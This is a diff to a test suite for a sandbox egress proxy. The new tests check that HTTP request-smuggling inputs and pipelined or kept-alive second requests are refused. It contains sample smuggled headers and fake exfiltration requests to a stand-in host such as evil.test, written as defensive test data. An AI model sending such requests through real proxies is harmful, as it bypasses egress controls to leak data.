@@ -72,9 +72,9 @@ async def test_an_allowed_host_and_the_model_endpoint_are_reached_and_the_rest_r
         async with serving(socket, proxy):
             tunnel = await ask(socket, f"CONNECT {STAND_IN}:{port} HTTP/1.1\r\n\r\n".encode(), b"GET /t HTTP/1.1\r\n\r\n")
             assert tunnel.startswith(b"HTTP/1.1 200") and tunnel.endswith(b"hello")
-            plain = await ask(socket, f"GET http://{STAND_IN}:{port}/p?q=1 HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+            plain = await ask(socket, f"GET http://{STAND_IN}:{port}/p?q=1 HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\n\r\n".encode())
             assert plain.endswith(b"hello")
-            assert upstream.heads == [b"GET /t HTTP/1.1", b"GET /p?q=1 HTTP/1.1\r\nHost: x"]
+            assert upstream.heads == [b"GET /t HTTP/1.1", f"GET /p?q=1 HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nConnection: close".encode()]
             to_model = await ask(socket, f"CONNECT 127.0.0.1:{model_port} HTTP/1.1\r\n\r\n".encode(), b"POST /v1 HTTP/1.1\r\n\r\n")
             assert to_model.endswith(b"hello") and model.heads == [b"POST /v1 HTTP/1.1"]
             for target in ("evil.test:443", f"127.0.0.1:{private_port}", f"localhost:{private_port}", "stand-in.test:443"):
@@ -108,9 +108,39 @@ def test_request_heads_are_read_strictly():
     assert isinstance(parse_head(b"CONNECT host:99999 HTTP/1.1\r\n\r\n", b""), str)
     assert isinstance(parse_head(b"GET /relative HTTP/1.1\r\n\r\n", b""), str)
     assert isinstance(parse_head(b"GET https://x/ HTTP/1.1\r\n\r\n", b""), str)
-    plain = parse_head(b"POST http://user@h.test/a HTTP/1.1\r\nA: b\r\n\r\n", b"body")
-    assert not isinstance(plain, str) and (plain.host, plain.port) == ("h.test", 80)
-    assert plain.forward == b"POST /a HTTP/1.1\r\nA: b\r\n\r\nbody"
+    plain = parse_head(b"POST http://user@h.test/a HTTP/1.1\r\nA: b\r\nContent-Length: 6\r\n\r\n", b"bod")
+    assert not isinstance(plain, str) and (plain.host, plain.port, plain.more, plain.pipelined) == ("h.test", 80, 3, False)
+    assert plain.forward == b"POST /a HTTP/1.1\r\nHost: h.test\r\nA: b\r\nContent-Length: 6\r\nConnection: close\r\n\r\nbod"
+    kept_alive = parse_head(b"GET http://h.test?q HTTP/1.0\r\nConnection: keep-alive, Upgrade\r\nUpgrade: h2c\r\n\r\n", b"")
+    assert not isinstance(kept_alive, str) and kept_alive.forward == b"GET /?q HTTP/1.0\r\nHost: h.test\r\nConnection: close\r\n\r\n"
+    pipelined = parse_head(b"GET http://h.test/ HTTP/1.1\r\nContent-Length: 1\r\n\r\n", b"xGET http://evil.test/ HTTP/1.1\r\n\r\n")
+    assert not isinstance(pipelined, str) and pipelined.pipelined and pipelined.forward.endswith(b"\r\n\r\nx")
+    misnamed = parse_head(b"GET http://h.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", b"")
+    assert not isinstance(misnamed, str) and misnamed.other_host == "evil.test"
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        b"GET http://h.test/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n",  # a body framed by chunks: refused
+        b"GET http://h.test/ HTTP/1.1\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
+        b"GET http://h.test/ HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 9\r\n\r\n",
+        b"GET http://h.test/ HTTP/1.1\r\nContent-Length: 1, 1\r\n\r\n",
+        b"GET http://h.test/ HTTP/1.1\r\nContent-Length: +1\r\n\r\n",
+        b"GET http://h.test/ HTTP/1.1\r\nContent-Length : 1\r\n\r\n",  # a space before the colon
+        b"GET http://h.test/ HTTP/1.1\r\nA: b\r\n Host: evil.test\r\n\r\n",  # a folded line
+        b"GET http://h.test/ HTTP/1.1\r\nA: b\nHost: evil.test\r\n\r\n",  # a bare line feed
+        b"GET http://h.test/ HTTP/1.1\nHost: evil.test\r\n\r\n",
+        b"GET http://h.test/ HTTP/1.1\r\nHost: h.test\r\nHost: evil.test\r\n\r\n",
+        b"GET http://h.test/ HTTP/1.1\r\nHost: h.test\x1b[2J\r\n\r\n",
+        b"GET http://h.test/ HTTP/1.1\r\nnoColon\r\n\r\n",
+        b"G\x00T http://h.test/ HTTP/1.1\r\n\r\n",
+    ],
+)
+def test_a_plain_request_whose_framing_or_host_could_be_read_two_ways_is_refused(head):
+    """What the host would read in these (where the body ends, which host is meant) may not be
+    what the proxy read: a request smuggled past its check."""
+    assert isinstance(parse_head(head, b""), str)
 
 
 async def test_refusals_are_logged_up_to_a_cap_and_the_last_says_so(tmp_path, monkeypatch):
@@ -163,3 +193,109 @@ async def test_a_socket_left_by_an_earlier_attempt_is_replaced(tmp_path):
     async with serving(socket, proxy):
         assert (await ask(socket, b"CONNECT h.test:1 HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 403")
     assert not socket.exists()
+
+
+class KeepAlive:
+    """A loopback HTTP/1.1 server of the kind a shared front end is: it answers every request a
+    connection carries, pipelined or one after another, whatever its Host or Connection header
+    says, and records each one's head. A connection ends only when the proxy ends it."""
+
+    def __init__(self) -> None:
+        self.heads: list[bytes] = []
+        self.ended = anyio.Event()
+
+    async def handle(self, stream: Any) -> None:
+        async with stream:
+            data = b""
+            try:
+                while True:
+                    while b"\r\n\r\n" not in data:
+                        data += await stream.receive()
+                    head, _, data = data.partition(b"\r\n\r\n")
+                    self.heads.append(head)
+                    length = [int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")]
+                    while len(data) < sum(length):
+                        data += await stream.receive()
+                    data = data[sum(length) :]
+                    await stream.send(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
+            except (anyio.EndOfStream, anyio.BrokenResourceError):
+                pass
+            finally:
+                self.ended.set()
+
+
+async def converse(socket: Path, *writes: bytes) -> bytes:
+    """Each of `writes` on one connection, the next once an answer (`hello`) came for the one before;
+    then its end of stream, and what came back till the proxy closed."""
+    async with await anyio.connect_unix(socket) as stream:
+        reply = b""
+        with anyio.fail_after(5):
+            for n, data in enumerate(writes):
+                while reply.count(b"hello") < n:
+                    reply += await stream.receive()
+                try:
+                    await stream.send(data)
+                except anyio.BrokenResourceError:
+                    break
+            try:
+                await stream.send_eof()
+                while True:
+                    reply += await stream.receive()
+            except (anyio.EndOfStream, anyio.BrokenResourceError):
+                pass
+        return reply
+
+
+@pytest.fixture
+async def allowed(tmp_path, stand_in):
+    """A keep-alive server behind STAND_IN (on the allowlist) and the proxy's socket: (server, port, socket, log)."""
+    server, logged = KeepAlive(), []
+    async with await anyio.create_tcp_listener(local_host="127.0.0.1") as listener, anyio.create_task_group() as group:
+        group.start_soon(listener.serve, server.handle)
+        proxy = Proxy(Allowlist(frozenset(), (STAND_IN,)), lambda message, **fields: logged.append(fields), sandbox="b", agent="a")
+        async with serving(tmp_path / "n.sock", proxy):
+            yield server, listener.extra(anyio.abc.SocketAttribute.local_port), tmp_path / "n.sock", logged
+        group.cancel_scope.cancel()
+
+
+async def test_a_request_pipelined_after_an_allowed_one_never_reaches_the_allowed_hosts_address(allowed):
+    """The attack of issue 28: the allowed host's address is a front end serving other sites too."""
+    server, port, socket, _ = allowed
+    first = f"GET http://{STAND_IN}:{port}/ HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\n\r\n".encode()
+    exfil = b"GET http://evil.test/exfil?data=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+    for pipelined in (first + exfil, first + b"GET /exfil?data=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n"):
+        reply = await converse(socket, pipelined)
+        assert reply.startswith(b"HTTP/1.1 400") and b"one request per connection" in reply
+    body = f"POST http://{STAND_IN}:{port}/up HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nContent-Length: 5\r\n\r\nhello".encode()
+    reply = await converse(socket, body + exfil)  # after a body, by its length
+    assert reply.startswith(b"HTTP/1.1 400")
+    assert server.heads == [] and b"hello" not in reply
+
+
+async def test_a_request_whose_host_header_names_another_host_is_refused_and_logged(allowed):
+    server, port, socket, logged = allowed
+    for host in ("evil.test", f"evil.test:{port}", f"{STAND_IN}:{port + 1}", ""):
+        reply = await converse(socket, f"GET http://{STAND_IN}:{port}/exfil HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+        assert reply.startswith(b"HTTP/1.1 403") and b"Host header" in reply and b"hello" not in reply, host
+    twice = await converse(socket, f"GET http://{STAND_IN}:{port}/ HTTP/1.1\r\nHost: {STAND_IN}\r\nHost: evil.test\r\n\r\n".encode())
+    assert twice.startswith(b"HTTP/1.1 400")
+    assert server.heads == []
+    assert [fields["target"] for fields in logged] == [f"{STAND_IN}:{port}"] * 4 and "Host header" in logged[0]["refused"]
+    same = await converse(socket, f"GET http://{STAND_IN}:{port}/ok HTTP/1.0\r\nhost: {STAND_IN.upper()}.:{port}\r\n\r\n".encode())
+    assert same.endswith(b"hello")  # the same host, however it is spelt
+    with anyio.fail_after(5):
+        await server.ended.wait()
+    assert server.heads == [f"GET /ok HTTP/1.0\r\nHost: {STAND_IN}:{port}\r\nConnection: close".encode()]
+
+
+async def test_a_kept_alive_connection_carries_no_second_request(allowed):
+    """After its answer came, a second request on the same connection (for another host, or the
+    same) ends the connection: it would reach the first one's address, unchecked."""
+    server, port, socket, _ = allowed
+    first = f"GET http://{STAND_IN}:{port}/one HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nConnection: keep-alive\r\n\r\n".encode()
+    for second in (b"GET http://evil.test/exfil HTTP/1.1\r\nHost: evil.test\r\n\r\n", first):
+        reply = await converse(socket, first, second)
+        assert reply.startswith(b"HTTP/1.1 200") and reply.count(b"hello") == 1
+    with anyio.fail_after(5):
+        await server.ended.wait()
+    assert server.heads == [f"GET /one HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nConnection: close".encode()] * 2
